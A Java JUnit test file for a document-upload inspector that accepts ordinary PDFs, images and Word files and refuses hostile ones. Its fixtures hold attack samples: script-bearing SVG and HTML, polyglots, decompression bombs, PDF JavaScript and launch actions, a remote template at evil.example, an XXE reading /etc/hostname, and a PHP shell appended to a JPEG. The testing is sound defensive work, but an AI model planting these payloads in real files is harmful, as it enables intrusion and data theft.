package nl.tegemoet.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.util.unit.DataSize;

class ContentInspectionTests {

    private final ContentInspection inspection = new ContentInspection(new DocumentLimits(DataSize.ofMegabytes(2), 20, 60));

    static Stream<Arguments> honestFiles() {
        return Stream.of(
                Arguments.of("brief.pdf", HostileFiles.pdf(), DocumentType.PDF),
                Arguments.of("BRIEF.PDF", HostileFiles.pdf(), DocumentType.PDF),
                Arguments.of("alleen lezen.pdf", HostileFiles.pdfLocked(""), DocumentType.PDF),
                Arguments.of("foto.jpeg", HostileFiles.image("jpg", 40, 20), DocumentType.JPEG),
                Arguments.of("foto.png", HostileFiles.image("png", 40, 20), DocumentType.PNG),
                Arguments.of("verhaal.docx", HostileFiles.zip(HostileFiles.docxParts()), DocumentType.DOCX),
                Arguments.of("zonder punt", HostileFiles.pdf(), DocumentType.PDF));
    }

    @ParameterizedTest
    @MethodSource("honestFiles")
    void takesInWhatPeopleSend(String name, byte[] content, DocumentType type) {
        assertThat(inspection.inspect(name, content).type()).isEqualTo(type);
    }

    static Stream<Arguments> refusedFiles() {
        var pdf = HostileFiles.pdf();
        return Stream.of(
                Arguments.of("leeg.pdf", new byte[0], Refusal.EMPTY),
                Arguments.of("groot.pdf", Arrays.copyOf(pdf, 3 * 1024 * 1024), Refusal.TOO_LARGE),
                Arguments.of("tekening.svg", text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("pagina.pdf", text("<html><script>alert(1)</script></html>"), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("plaatje.gif", text("GIF89a/*aaaa*/=1;alert(1)"), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("programma.pdf", text("MZ\u0090\0\3\0\0\0\4\0\0\0"), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("tweeding.pdf", joined(text("<html>"), pdf), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("oud.doc", text("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("archief.docx", HostileFiles.zip(Map.of("hallo.txt", "hallo")), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("rekenblad.docx", HostileFiles.zip(Map.of("[Content_Types].xml", HostileFiles.contentTypes(
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"))), Refusal.TYPE_NOT_ALLOWED),
                Arguments.of("foto.exe", HostileFiles.image("png", 4, 4), Refusal.NAME_DOES_NOT_MATCH),
                Arguments.of("foto.pdf", HostileFiles.image("png", 4, 4), Refusal.NAME_DOES_NOT_MATCH),
                Arguments.of("brief.pdf.html", pdf, Refusal.NAME_DOES_NOT_MATCH),
                Arguments.of("half.pdf", Arrays.copyOf(pdf, 40), Refusal.BROKEN),
                Arguments.of("half.png", Arrays.copyOf(HostileFiles.image("png", 400, 400), 60), Refusal.BROKEN),
                Arguments.of("half.docx", half(HostileFiles.zip(HostileFiles.docxParts())), Refusal.BROKEN),
                Arguments.of("bom.pdf", HostileFiles.pdfBomb(150, 1), Refusal.BROKEN),
                Arguments.of("dubbel.pdf", HostileFiles.pdfBomb(50, 2), Refusal.BROKEN),
                Arguments.of("slot.pdf", HostileFiles.pdfLocked("geheim"), Refusal.ENCRYPTED_PDF),
                Arguments.of("script.pdf", HostileFiles.pdfOpening(new PDActionJavaScript("app.alert(1)")), Refusal.ACTIVE_CONTENT),
                Arguments.of("start.pdf", HostileFiles.pdfOpening(new PDActionLaunch()), Refusal.ACTIVE_CONTENT),
                Arguments.of("bijlage.pdf", pdfWithAttachment(), Refusal.ACTIVE_CONTENT),
                Arguments.of("los.pdf", pdfWithLooseScript(), Refusal.ACTIVE_CONTENT),
                Arguments.of("groot.png", HostileFiles.pngPromising(30_000, 30_000), Refusal.IMAGE_TOO_LARGE));
    }

    @ParameterizedTest
    @MethodSource("refusedFiles")
    void refusesWithAReason(String name, byte[] content, Refusal reason) {
        assertRefused(name, content, reason);
    }

    @ParameterizedTest
    @ValueSource(strings = {"attachedTemplate", "oleObject", "frame", "subDocument", "image"})
    void refusesAWordDocumentThatFetchesSomething(String kind) {
        var parts = HostileFiles.docxParts();
        parts.put("word/_rels/settings.xml.rels", HostileFiles.relations(HostileFiles.relation(kind, "https://evil.example/t.dotm", "External")));
        assertRefused("brief.docx", HostileFiles.zip(parts), Refusal.ACTIVE_CONTENT);
    }

    @Test
    void aPdfWithPackedStructureOfOrdinarySizePasses() {
        assertThat(PdfBounds.holds(HostileFiles.pdfBomb(20, 1))).isTrue();
        assertThat(PdfBounds.holds(HostileFiles.pdf())).isTrue();
        assertThat(PdfBounds.holds(text("%PDF-1.7 " + " ".repeat(100_000) + "a stream of words"))).isTrue();
    }

    @Test
    void aLinkThatOneMustClickPasses() {
        var parts = HostileFiles.docxParts();
        parts.put("word/_rels/document.xml.rels", HostileFiles.relations(HostileFiles.relation("hyperlink", "https://example.org/", "External")));
        assertThat(inspection.inspect("brief.docx", HostileFiles.zip(parts)).type()).isEqualTo(DocumentType.DOCX);
    }

    @Test
    void refusesMacrosWhateverTheyAreCalled() {
        var named = HostileFiles.docxParts();
        named.put("word/vbaProject.bin", "macro");
        assertRefused("brief.docx", HostileFiles.zip(named), Refusal.MACROS);
        var declared = HostileFiles.docxParts();
        declared.put("[Content_Types].xml", HostileFiles.contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml"));
        assertRefused("brief.docx", HostileFiles.zip(declared), Refusal.MACROS);
    }

    @Test
    void refusesEmbeddedObjects() {
        var parts = HostileFiles.docxParts();
        parts.put("word/embeddings/oleObject1.bin", "object");
        assertRefused("brief.docx", HostileFiles.zip(parts), Refusal.ACTIVE_CONTENT);
    }

    @Test
    void refusesAWordDocumentThatUnpacksWithoutEnd() {
        var bomb = HostileFiles.docxBomb(150);
        assertThat(bomb.length).isLessThan(1024 * 1024);
        assertRefused("brief.docx", bomb, Refusal.BROKEN);
    }

    @Test
    void refusesAnEntityInAWordDocument() {
        var parts = HostileFiles.docxParts();
        parts.put("_rels/.rels", "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><r>&x;</r>");
        assertRefused("brief.docx", HostileFiles.zip(parts), Refusal.BROKEN);
    }

    @Test
    void refusesAnArchiveThatHidesAPartFromItsTableOfContents() {
        var zip = HostileFiles.zip(HostileFiles.docxParts());
        // the table of contents names another part than the archive holds
        var name = "word/document.xml".getBytes(StandardCharsets.UTF_8);
        int last = lastIndexOf(zip, name);
        zip[last] = 'x';
        assertRefused("brief.docx", zip, Refusal.BROKEN);
    }

    @Test
    void nothingBesideThePixelsOfAPhotoIsKept() {
        var photo = HostileFiles.jpegWithExif(1, 40, 20, "Zeist 52.0907 5.2332");
        var kept = inspection.inspect("foto.jpg", photo).content();
        assertThat(new String(photo, StandardCharsets.ISO_8859_1)).contains("Zeist");
        assertThat(new String(kept, StandardCharsets.ISO_8859_1)).doesNotContain("Zeist").doesNotContain("Exif");
    }

    @Test
    void whatHidesBehindAnImageIsGone() {
        var photo = joined(HostileFiles.image("jpg", 40, 20), text("<?php system('id'); ?>"));
        assertThat(new String(inspection.inspect("foto.jpg", photo).content(), StandardCharsets.ISO_8859_1)).doesNotContain("php");
    }

    /** The test image is red on the left; where red ends up tells how it was turned. */
    @ParameterizedTest
    @MethodSource("orientations")
    void aPhotoStandsUprightHoweverTheCameraWasHeld(int orientation, boolean sideways, int redX, int redY) throws Exception {
        var photo = HostileFiles.jpegWithExif(orientation, 80, 40, "x");
        var image = ImageIO.read(new ByteArrayInputStream(inspection.inspect("foto.jpg", photo).content()));
        assertThat(image.getWidth()).isEqualTo(sideways ? 40 : 80);
        assertThat(image.getHeight()).isEqualTo(sideways ? 80 : 40);
        int x = redX * (image.getWidth() - 1);
        int y = redY * (image.getHeight() - 1);
        assertThat(image.getRGB(x, y) >> 16 & 0xFF).as("red").isGreaterThan(200);
        assertThat(image.getRGB(image.getWidth() - 1 - x, image.getHeight() - 1 - y) & 0xFF).as("blue").isGreaterThan(200);
    }

    static Stream<Arguments> orientations() {
        return Stream.of(Arguments.of(1, false, 0, 0), Arguments.of(2, false, 1, 0), Arguments.of(3, false, 1, 1), Arguments.of(4, false, 0, 1),
                Arguments.of(5, true, 0, 0), Arguments.of(6, true, 1, 0), Arguments.of(7, true, 1, 1), Arguments.of(8, true, 0, 1));
    }

    private void assertRefused(String name, byte[] content, Refusal reason) {
        assertThatThrownBy(() -> inspection.inspect(name, content)).isInstanceOfSatisfying(DocumentRefused.class,
                refused -> assertThat(refused.reason()).isEqualTo(reason));
    }

    private static byte[] pdfWithAttachment() {
        return HostileFiles.pdf(document -> {
            var file = new PDComplexFileSpecification();
            file.setFile("evil.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(text("MZ"))));
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("evil.exe", file));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** A script that no page and no event reaches. */
    private static byte[] pdfWithLooseScript() {
        return HostileFiles.pdf(document -> {
            var script = new COSDictionary();
            script.setItem(COSName.S, COSName.JAVA_SCRIPT);
            script.setItem(COSName.JS, new COSString("app.alert(1)"));
            document.getPage(0).getCOSObject().setItem(COSName.getPDFName("Ergens"), script);
        });
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] half(byte[] content) {
        return Arrays.copyOf(content, content.length / 2);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        var both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static int lastIndexOf(byte[] all, byte[] part) {
        for (int i = all.length - part.length; i >= 0; i--) {
            if (Arrays.equals(all, i, i + part.length, part, 0, part.length)) {
                return i;
            }
        }
        throw new AssertionError("not found");
    }
}
